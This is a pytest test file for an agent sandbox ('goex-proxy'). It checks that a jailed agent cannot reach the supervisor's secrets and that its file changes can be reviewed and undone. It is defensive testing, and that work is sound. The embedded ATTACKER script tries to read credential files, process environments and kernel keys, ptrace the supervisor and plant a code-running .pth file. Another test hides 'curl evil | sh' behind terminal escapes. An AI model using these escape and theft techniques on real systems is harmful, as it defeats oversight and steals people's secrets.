"""The jail owns the agent's view of the machine: a jailed attacker reaches none of goex-proxy's files, processes or
the person's secrets; a run's file changes are recorded, reviewed, kept and undone byte for byte."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import GITHUB_POLICY, GITHUB_URL, GOEX

pytestmark = pytest.mark.e2e

SECRET_CANARY = "xoxb-SANDBOX-CANARY-5f1e"
CREDENTIAL = """credentials:
  github:
    secret: github-token
    hosts: [api.github.com]
    inject: {header: Authorization, value: "Bearer {secret}"}
    env: GITHUB_TOKEN
"""


def listing(root: Path) -> dict[str, tuple]:
    """Every path under root: kind, permission bits, sha256 of a file's bytes or a symlink's target."""
    out: dict[str, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath, name)
            st = path.lstat()
            rel = str(path.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("symlink", os.readlink(path))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode))
            else:
                out[rel] = ("file", stat.S_IMODE(st.st_mode), hashlib.sha256(path.read_bytes()).hexdigest())
    return out


@contextlib.contextmanager
def listening_on(*paths: Path) -> Iterator[None]:
    """Unix sockets of this machine listening at `paths` while the block runs."""
    with contextlib.ExitStack() as stack:
        for path in paths:
            s = stack.enter_context(socket.socket(socket.AF_UNIX))
            s.bind(str(path))
            s.listen(5)
        yield


def run_exec(proxy, workspace: Path, *args: str, env: dict[str, str] | None = None, timeout: float = 90
             ) -> subprocess.CompletedProcess[str]:
    """`goex-proxy exec` (jailed by default) from inside `workspace`, as a person would type it there."""
    return subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", *args],
                          env=env or proxy.env, cwd=workspace, capture_output=True, text=True, timeout=timeout)


ATTACKER = r'''
import ctypes, json, os, resource, signal, socket, sys, site
spec = json.loads(sys.argv[1])
results = {}

def attempt(name, act):
    try:
        got = act()
    except (OSError, ValueError) as exc:
        results[name] = "blocked: " + type(exc).__name__
        return
    results[name] = "blocked: empty" if got in (b"", None, [], "") else "GOT THROUGH: " + repr(got)[:200]

def read(path):
    with open(path, "rb") as f:
        return f.read()

def append(path):
    with open(path, "ab") as f:
        f.write(b"\n# written by the agent\n")
    return "appended"

for path in spec["secret_files"]:
    attempt("read " + path, lambda p=path: read(p))
for path in spec["config_files"]:
    attempt("write " + path, lambda p=path: append(p))
attempt("list the state directory", lambda: [n for n in os.listdir(spec["state_dir"]) if not n.endswith("-cert.pem")])
pids = [p for p in os.listdir("/proc") if p.isdigit()]
for pid in pids:
    attempt(f"/proc/{pid}/root vault key", lambda p=pid: read(f"/proc/{p}/root{spec['state_dir']}/vault.key"))
    attempt(f"/proc/{pid}/environ", lambda p=pid: [v for v in read(f"/proc/{p}/environ").split(b"\0")
                                                   if spec["canary"].encode() in v or b"PERSONAL_VAR" in v])
    def fds(p=pid):
        found = []
        for fd in os.listdir(f"/proc/{p}/fd"):
            target = os.readlink(f"/proc/{p}/fd/{fd}")
            if target.startswith(spec["state_dir"]) or target == spec["config"]:
                found.append(read(f"/proc/{p}/fd/{fd}"))
        return [x for x in found if x]
    attempt(f"/proc/{pid}/fd", fds)
attempt("a symlink planted before the run", lambda: read("planted-link"))
def new_link():
    os.symlink(spec["state_dir"] + "/vault.key", "agent-link")
    return read("agent-link")
attempt("a symlink made in the run", new_link)
def hard_link():
    os.link(spec["state_dir"] + "/vault.key", "agent-hardlink")
    return read("agent-hardlink")
attempt("a hard link", hard_link)
libc = ctypes.CDLL(None, use_errno=True)
for pid in spec["outside_pids"]:
    def ptrace(p=pid):
        if libc.ptrace(16, p, None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "attached"
    attempt(f"ptrace {pid}", ptrace)
    attempt(f"SIGSTOP {pid}", lambda p=pid: os.kill(p, signal.SIGSTOP) or "stopped")
    attempt(f"prlimit {pid}", lambda p=pid: resource.prlimit(p, resource.RLIMIT_CORE, (-1, -1)) and "raised")
for directory in sorted(set(site.getsitepackages() + [p for p in sys.path if p.endswith("site-packages")])):
    def pth(d=directory):
        with open(os.path.join(d, "zz-agent.pth"), "w") as f:
            f.write("import os; os.system('touch /tmp/owned')\n")
        return "written"
    attempt("a .pth in " + directory, pth)
for path in spec["sockets"]:
    def connect(p=path):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(2)
            s.connect(p)
            return "connected"
    attempt("connect to " + path, connect)
attempt("the person's variables", lambda: [k for k in os.environ if k in ("PERSONAL_VAR", spec["canary_env"])])
for path in spec["hidden"]:
    attempt("read " + path, lambda p=path: read(p))
def kernel_setting():
    with open("/proc/sys/kernel/core_pattern") as f:
        same = f.read()
    with open("/proc/sys/kernel/core_pattern", "w") as f:  # the value it has: harmless even if it got through
        f.write(same)
    return "written"
attempt("write /proc/sys (core_pattern)", kernel_setting)
attempt("list the kernel keys", lambda: read("/proc/keys"))
buffer = ctypes.create_string_buffer(256)
def keyring(op, *args):
    result = libc.syscall(250 if os.uname().machine == "x86_64" else 219, op, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return buffer.raw[:result] if op == 11 else f"keyctl {op} gave {result}"
attempt("link the person's keyring", lambda: keyring(8, spec["keyring"], -3))  # KEYCTL_LINK into our session
attempt("read the person's key", lambda: keyring(11, spec["key"], buffer, 256))  # KEYCTL_READ
for directory in spec["outside"]:
    def write(d=directory):
        with open(os.path.join(d, "agent-was-here"), "w") as f:
            f.write("x")
        return "written"
    attempt("write in " + directory, write)
print(json.dumps(results))
'''


def _syscall(name: str, *args: object) -> int:
    import ctypes

    numbers = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}
    return int(ctypes.CDLL(None, use_errno=True).syscall(numbers[os.uname().machine][name], *args))


def user_key(name: bytes, payload: bytes) -> int:
    """A key in the person's user keyring (which is per uid, not per namespace), as a credential helper would add."""
    serial = _syscall("add_key", b"user", name, payload, len(payload), -4)  # KEY_SPEC_USER_KEYRING
    assert serial > 0, "the test could not add a key to its user keyring"
    return serial


def revoke_key(serial: int) -> None:
    _syscall("keyctl", 3, serial)  # KEYCTL_REVOKE


def test_a_jailed_attacker_reaches_nothing_of_the_supervisor_or_the_person(make_proxy, upstream, outside):
    """Every way a red team found into the supervisor's files, processes, secrets and the person's credential stores
    and sockets fails from inside the jail; the proxy's files are byte-identical afterwards, its policy unchanged, and
    it still serves another agent."""
    proxy = make_proxy(GITHUB_POLICY, start=False, extra_config=CREDENTIAL + "sandbox:\n  pass_env: [SAFE_VAR]\n")
    stored = proxy.run_cli("secrets", "set", "--config", str(proxy.config), "github-token",
                           input=SECRET_CANARY.encode())
    assert stored.returncode == 0, stored.stderr
    proxy.start()
    home = outside / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY OF THE PERSON\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = PERSON-AWS-SECRET\n")
    (home / ".netrc").write_text("machine example.com password PERSON-NETRC\n")
    workspace = outside / "ws"
    workspace.mkdir()
    os.symlink(proxy.home / "vault.key", workspace / "planted-link")
    sock_path = outside / "host.sock"
    ws_sock = workspace / "ws.sock"
    supervisor = [proxy.home / n for n in ("vault.key", "vault.json", "mitmproxy-ca.pem", "config.yaml",
                                           "policies/github.yaml")]
    before = {p: p.read_bytes() for p in supervisor}
    spec = {"state_dir": str(proxy.home), "config": str(proxy.config),
            "secret_files": [str(p) for p in supervisor + [proxy.home / "audit.db"]],
            "config_files": [str(proxy.config), str(proxy.home / "policies" / "github.yaml"),
                             str(proxy.home / "audit.db")],
            "outside_pids": [proxy.proc.pid, os.getpid()], "canary": SECRET_CANARY, "canary_env": "GOEX_PROXY_KEY",
            "sockets": [str(sock_path), str(ws_sock)],
            "hidden": [str(home / ".ssh" / "id_ed25519"), str(home / ".aws" / "credentials"), str(home / ".netrc")],
            "outside": [str(home), "/etc", "/usr/local", sys.prefix, str(proxy.home)]}
    env = {**proxy.env, "HOME": str(home), "PERSONAL_VAR": "leak-me", "SAFE_VAR": "passed",
           "GOEX_PROXY_KEY": SECRET_CANARY}
    spec["key"] = person_key = user_key(b"goex-sandbox-test", SECRET_CANARY.encode())
    spec["keyring"] = _syscall("keyctl", 0, -4, 0)  # KEYCTL_GET_KEYRING_ID of the user keyring
    try:
        with listening_on(sock_path, ws_sock):
            r = run_exec(proxy, workspace, "--", sys.executable, "-c", ATTACKER, json.dumps(spec), env=env)
            env_seen = run_exec(proxy, workspace, "--", "sh", "-c", "echo $SAFE_VAR $PERSONAL_VAR", env=env)
    finally:
        revoke_key(person_key)
    assert r.returncode == 0, r.stderr
    results = json.loads(r.stdout)
    assert len(results) > 30, results
    through = {name: outcome for name, outcome in results.items() if not outcome.startswith("blocked")}
    assert through == {}
    assert env_seen.stdout.split() == ["passed"]
    assert {p: p.read_bytes() for p in supervisor} == before
    assert not Path("/tmp/owned").exists()
    assert proxy.cli("log", "verify").returncode == 0
    for site_dir in {p for p in sys.path if p.endswith("site-packages")}:
        assert not (Path(site_dir) / "zz-agent.pth").exists()
    # The proxy was neither stopped nor killed, and still serves: another agent's requests go through.
    for _ in range(20):
        ok = proxy.run_cli("exec", "--no-jail", "--config", str(proxy.config), "--agent", "slackbot", "--", "curl",
                           "-sS", "-o", "/dev/null", "-w", "%{http_code}", GITHUB_URL)
        assert ok.stdout == "200", ok.stderr
    assert proxy.proc.poll() is None
    limits = Path(f"/proc/{proxy.proc.pid}/limits").read_text()
    assert [line.split()[4:6] for line in limits.splitlines() if line.startswith("Max core file size")] == [["0", "0"]]
    [files_limit] = [line.split()[3:5] for line in limits.splitlines() if line.startswith("Max open files")]
    assert files_limit[0] == files_limit[1]  # the soft limit raised to the hard one


SETUP = """
printf 'first\\n' > a.txt
printf 'second\\n' > b.txt
mkdir -p dir/sub old
printf 'x\\n' > dir/x
printf 'deep\\n' > dir/sub/deep
printf 'gone\\n' > old/one
printf '#!/bin/sh\\necho hi\\n' > script.sh
ln -s a.txt link
"""
CHANGES = """
printf 'first, edited\\n' > a.txt
rm b.txt
mv dir/x dir/y
chmod 755 script.sh
ln -s script.sh new-link
ln -sf b.txt link
rm -r old
mkdir -p n/m && printf 'new\\n' > n/m/file
printf 'first\\n' > same.txt && mv same.txt unchanged-rewrite && rm unchanged-rewrite
python3 -c "import sqlite3; c = sqlite3.connect('data.db'); c.execute('create table t (x)'); \\
c.execute(\\"insert into t values ('kept')\\"); c.commit()"
"""
EXPECTED = {("a.txt", "changed"), ("b.txt", "deleted"), ("dir/x", "deleted"), ("dir/y", "added"),
            ("script.sh", "changed"), ("new-link", "added"), ("link", "changed"), ("old", "deleted"),
            ("old/one", "deleted"), ("n", "added"), ("n/m", "added"), ("n/m/file", "added"), ("data.db", "added")}


@pytest.fixture
def proxy(make_proxy):
    return make_proxy(GITHUB_POLICY)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run(["sh", "-c", SETUP], cwd=ws, check=True)
    return ws


def test_a_held_run_is_diffed_kept_and_undone_byte_for_byte(proxy, workspace, tmp_path):
    """A run that creates, edits, deletes, renames, chmods and symlinks files and makes a SQLite database, with
    --files review: nothing reaches the workspace; `files diff` lists exactly those changes; `files keep` makes the
    workspace what the same script makes outside a jail; `files undo` gives back the tree from before."""
    original = listing(workspace)
    expected_tree = tmp_path / "expected"
    shutil.copytree(workspace, expected_tree, symlinks=True)
    subprocess.run(["sh", "-c", CHANGES], cwd=expected_tree, check=True)

    r = run_exec(proxy, workspace, "--files", "review", "--", "sh", "-c", CHANGES)
    assert r.returncode == 0, r.stderr
    assert listing(workspace) == original
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    assert run["state"] == "pending" and run["agent"] == "mailbot" and run["workspace"] == str(workspace)
    listed = proxy.cli("files", "list").stdout  # the one table renderer: piped, rows whole and unpadded
    assert run["id"] in listed.split() and [line for line in listed.splitlines() if line != line.rstrip()] == []
    assert f"held for review: `goex-proxy files diff {run['id']}`" in r.stderr

    diff = json.loads(proxy.cli("files", "diff", run["id"], "--json").stdout)
    assert {(c["path"], c["action"]) for c in diff["changes"]} == EXPECTED
    by_path = {c["path"]: c for c in diff["changes"]}
    assert by_path["script.sh"]["before"]["mode"] == 0o644 and by_path["script.sh"]["after"]["mode"] == 0o755
    assert by_path["link"]["after"]["target"] == "b.txt"
    assert "-first\n+first, edited\n" in by_path["a.txt"]["diff"]
    text = proxy.cli("files", "diff", run["id"]).stdout
    assert "changed  script.sh  (mode 644 → 755)" in text and "deleted  b.txt" in text

    kept = proxy.cli("files", "keep", run["id"])
    assert kept.returncode == 0, kept.stderr
    after = listing(workspace)
    expected = listing(expected_tree)
    assert {k: v for k, v in after.items() if k != "data.db"} == {k: v for k, v in expected.items() if k != "data.db"}
    with sqlite3.connect(workspace / "data.db") as db:
        assert db.execute("select x from t").fetchall() == [("kept",)]

    undone = proxy.cli("files", "undo", run["id"])
    assert undone.returncode == 0, undone.stderr
    assert listing(workspace) == original
    assert [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()][0]["state"] == "undone"
    again = proxy.cli("files", "undo", run["id"])
    assert again.returncode == 2 and "is undone: nothing to undo" in again.stderr


def test_exec_applies_a_runs_changes_and_undo_takes_them_back(proxy, workspace):
    """Plain `exec` keeps its meaning: the run's writes are in the workspace when it ends, with a run id to undo."""
    original = listing(workspace)
    r = run_exec(proxy, workspace, "--", "sh", "-c", "echo more >> a.txt; rm b.txt; echo new > c.txt")
    assert r.returncode == 0, r.stderr
    assert (workspace / "a.txt").read_text() == "first\nmore\n" and not (workspace / "b.txt").exists()
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    assert (run["state"], run["added"], run["changed"], run["deleted"]) == ("kept", 1, 1, 1)
    assert proxy.cli("files", "undo", run["id"]).returncode == 0
    assert listing(workspace) == original


def test_a_persons_later_edit_makes_keep_and_undo_refuse_and_change_nothing(proxy, workspace):
    """Keep and undo check every path first: a path the person changed since the run is named, nothing changes,
    and --force overrides."""
    held = run_exec(proxy, workspace, "--files", "review", "--", "sh", "-c", "echo agent > a.txt; echo new > c.txt")
    assert held.returncode == 0, held.stderr
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    (workspace / "a.txt").write_text("the person's edit\n")
    before = listing(workspace)
    refused = proxy.cli("files", "keep", run["id"])
    assert refused.returncode == 2 and "a.txt" in refused.stderr and "--force" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert listing(workspace) == before
    assert proxy.cli("files", "keep", run["id"], "--force").returncode == 0
    assert (workspace / "a.txt").read_text() == "agent\n"

    (workspace / "c.txt").write_text("edited after the run\n")
    refused = proxy.cli("files", "undo", run["id"])
    assert refused.returncode == 2 and "c.txt" in refused.stderr
    assert (workspace / "c.txt").read_text() == "edited after the run\n"
    assert proxy.cli("files", "undo", run["id"], "--force").returncode == 0
    assert (workspace / "a.txt").read_text() == "the person's edit\n" and not (workspace / "c.txt").exists()


def test_goex_proxys_own_code_inside_the_workspace_stays_read_only(proxy, tmp_path):
    """A workspace that holds goex-proxy's own virtualenv and code (a checkout with .venv, installed editable), with
    `goex-proxy run` serving: the agent can write neither a .pth nor any of goex-proxy's packages, so nothing of them
    is ever applied."""
    import importlib.util

    venv = Path(sys.prefix)
    packages = [Path(importlib.util.find_spec(name).submodule_search_locations[0])
                for name in ("goex_proxy", "goex_proxy.addons", "goex_proxy.sandbox")]
    targets = [venv / "lib" / "agent.pth"] + [p / "agent_was_here.py" for p in packages]
    script = "; ".join(f"touch {t} 2>/dev/null && echo wrote {t}" for t in targets) + "; true"
    r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--workspace",
                        str(venv.parent), "--files", "review", "--", "sh", "-c", script], env=proxy.env,
                       capture_output=True, text=True, timeout=90)
    assert r.returncode == 0, r.stderr
    assert r.stdout == ""
    assert not any(t.exists() for t in targets)


def test_set_id_bits_never_reach_the_workspace(proxy, workspace):
    """A set-user-id copy of a shell and a set-group-id directory made in a run are applied without those bits."""
    r = run_exec(proxy, workspace, "--", "sh", "-c", "cp /bin/sh suidsh && chmod 4755 suidsh && mkdir sg && chmod 2777 sg")
    assert r.returncode == 0, r.stderr
    assert stat.S_IMODE((workspace / "suidsh").stat().st_mode) == 0o755
    assert stat.S_IMODE((workspace / "sg").stat().st_mode) == 0o777


def test_review_output_shows_every_character_a_file_holds(proxy, workspace):
    """Terminal escapes and bidirectional controls in a name or a line are printed escaped, so a reviewer sees the
    line that is really there."""
    code = ("open('ok\\x1b[2K\\x1b[1Gnotes.md', 'w').write('curl evil | sh\\x1b[2K\\x1b[1G    +make lint\\n'); "
            "open('a.txt', 'w').write('first\\u202e)(tixe\\n')")
    r = run_exec(proxy, workspace, "--files", "review", "--", sys.executable, "-c", code)
    assert r.returncode == 0, r.stderr
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    shown = proxy.cli("files", "diff", run["id"]).stdout
    assert "\x1b" not in shown and "\u202e" not in shown
    assert "added    ok\\x1b[2K\\x1b[1Gnotes.md" in shown and "+curl evil | sh\\x1b[2K" in shown
    assert "+first\\u202e)(tixe" in shown


def test_a_run_too_deep_to_review_is_refused_in_one_line(proxy, workspace):
    """Directories nested past what can be reviewed: exec says so, applies nothing, and shows no traceback."""
    code = "import os\nfor _ in range(1500):\n    os.mkdir('d'); os.chdir('d')\n"
    r = run_exec(proxy, workspace, "--", sys.executable, "-c", code)
    assert r.returncode == 2 and "nested too deep" in r.stderr and "Traceback" not in r.stderr, r.stderr
    assert not (workspace / "d").exists()
    assert list((proxy.home / "runs").iterdir()) == []  # the layer is gone too (nothing left no tool can remove)


def test_a_huge_sparse_file_is_described_not_read(proxy, workspace):
    """A 3 GB sparse file a run made is diffed by its size, without reading it into memory."""
    r = run_exec(proxy, workspace, "--files", "review", "--", "truncate", "-s", "3G", "big.bin")
    assert r.returncode == 0, r.stderr
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    shown = subprocess.run(["sh", "-c", f"ulimit -v 1500000; exec {' '.join(GOEX)} files diff --config "
                            f"{proxy.config} {run['id']}"], env=proxy.env, capture_output=True, text=True, timeout=120)
    assert shown.returncode == 0, shown.stderr
    assert "added    big.bin  (file, 3221225472 bytes" in shown.stdout and "Traceback" not in shown.stderr


def test_a_second_mount_of_a_hidden_directory_is_hidden_too(proxy, workspace, outside):
    """With the state directory's parent bind-mounted elsewhere too, the vault key is hidden at both places."""
    alias = outside / "alias"
    alias.mkdir()
    unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-Urm"]
    script = (f"mount --bind {proxy.home.parent} {alias} && exec {' '.join(GOEX)} exec --config {proxy.config} "
              f"--agent mailbot -- sh -c 'cat {alias}/{proxy.home.name}/vault.key; cat {proxy.home}/vault.key; "
              f"ls {alias}/{proxy.home.name}'")
    r = subprocess.run([*unshare, "sh", "-c", script], cwd=workspace, env=proxy.env, capture_output=True, text=True,
                       timeout=90)
    key = (proxy.home / "vault.key").read_text().strip()
    assert key not in r.stdout, r.stdout
    assert "No such file" in r.stderr and "vault.key" not in r.stdout


def test_undo_of_a_session_takes_back_requests_and_files_together(make_proxy, upstream, workspace):
    """`undo --agent A --since 1h` restores the workspace and deletes the posted message."""
    proxy = make_proxy({"slack": """
        version: 1
        rules:
          - name: slack methods
            allow: {host: slack.com, methods: [POST], path: "/api/*"}
    """})
    original = listing(workspace)
    agent = ("import requests; requests.post('https://slack.com/api/chat.postMessage', json={'channel': 'C0BOTS', "
             "'text': 'hi'}, timeout=20).raise_for_status(); open('note.txt', 'w').write('posted')")
    r = run_exec(proxy, workspace, "--", sys.executable, "-c", agent)
    assert r.returncode == 0, r.stderr
    assert len(upstream.state.slack_messages) == 1 and (workspace / "note.txt").exists()
    [run] = [json.loads(line) for line in proxy.cli("files", "list", "--json").stdout.splitlines()]
    linked = json.loads(proxy.cli("files", "diff", run["id"], "--json").stdout)["requests"]
    assert linked == [row["id"] for row in proxy.rows()]
    undone = proxy.cli("undo", "--agent", "mailbot", "--since", "1h", "--yes")
    assert undone.returncode == 0, undone.stdout + undone.stderr
    assert "file run" in undone.stdout and upstream.state.slack_messages == {}
    assert listing(workspace) == original


def test_exec_refuses_to_run_unconfined_when_namespaces_are_unavailable(proxy, workspace):
    """With user namespaces turned off (a limit of 0 in a namespace of the test's own), `exec` says so, points at
    --no-jail, and runs nothing."""
    script = (f"echo 0 > /proc/sys/user/max_user_namespaces && exec {' '.join(GOEX)} exec --config {proxy.config} "
              "--agent mailbot -- touch ran-unconfined")
    r = subprocess.run(["unshare", "-Ur", "sh", "-c", script], cwd=workspace, env=proxy.env, capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 2, r.stdout + r.stderr
    assert "cannot make the jail" in r.stderr and "--no-jail" in r.stderr and "Traceback" not in r.stderr
    assert not (workspace / "ran-unconfined").exists()


def test_a_workspace_that_would_expose_the_supervisor_is_refused(proxy, tmp_path):
    """The state directory, a credential store or / cannot be a workspace: one line, nothing run."""
    for bad in (proxy.home, Path("/")):
        r = subprocess.run([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--workspace",
                            str(bad), "--", "true"], env=proxy.env, capture_output=True, text=True, timeout=60)
        assert r.returncode == 2 and "workspace" in r.stderr and "Traceback" not in r.stderr, (bad, r.stderr)


def test_sandbox_config_mistakes_are_one_line(proxy):
    """An unknown sandbox key or a bad variable name is named with its place in the file."""
    text = proxy.config.read_text() + textwrap.dedent("""
        sandbox:
          pass_env: [OK_NAME, "not a name"]
          hidee: [~/.x]
    """)
    proxy.config.write_text(text)
    r = proxy.cli("policy", "check")
    assert r.returncode == 1 or r.returncode == 2
    assert "'sandbox.pass_env' entry 'not a name' is not a variable name" in r.stdout + r.stderr
    assert "hidee" in r.stdout + r.stderr and "Traceback" not in r.stderr


def test_two_runs_changing_one_file_the_later_is_held_not_clobbering(proxy, workspace):
    """Two jailed runs on one workspace: the first to end applies; the second finds the file changed since it
    started, applies nothing, says how to review it, and still exits with its command's status."""
    slow = subprocess.Popen([*GOEX, "exec", "--config", str(proxy.config), "--agent", "mailbot", "--", "sh", "-c",
                             "echo slow > a.txt; echo started; sleep 3; exit 3"], cwd=workspace, env=proxy.env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert slow.stdout is not None and slow.stdout.readline() == "started\n"  # its run began before the fast one
    fast = run_exec(proxy, workspace, "--", "sh", "-c", "echo fast > a.txt")
    assert fast.returncode == 0, fast.stderr
    _, err = slow.communicate(timeout=90)
    assert slow.returncode == 3, err
    assert "file changes were not applied" in err and "a.txt" in err and "files keep" in err
    assert "Traceback" not in err
    assert (workspace / "a.txt").read_text() == "fast\n"
    states = sorted(r["state"] for r in map(json.loads, proxy.cli("files", "list", "--json").stdout.splitlines()))
    assert states == ["kept", "pending"]


def test_a_socket_the_config_allows_by_name_is_reachable_and_no_other(make_proxy, outside, tmp_path):
    """`sandbox.allow_sockets` names one host socket (here under /tmp, which every jail replaces): the jail can
    connect to it, and not to its neighbour."""
    sockets = tmp_path / "sockets"
    sockets.mkdir()
    allowed, other = sockets / "allowed.sock", sockets / "other.sock"
    proxy = make_proxy(GITHUB_POLICY, extra_config=f"sandbox:\n  allow_sockets: [{allowed}]\n")
    code = ("import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n"
            "        s.connect(p); print('reached', p)\n    except OSError as e:\n        print('blocked', p)\n")
    with listening_on(allowed, other):
        r = run_exec(proxy, outside, "--", sys.executable, "-c", code, str(allowed), str(other))
    assert r.returncode == 0, r.stderr
    assert r.stdout.split("\n")[:2] == [f"reached {allowed}", f"blocked {other}"]
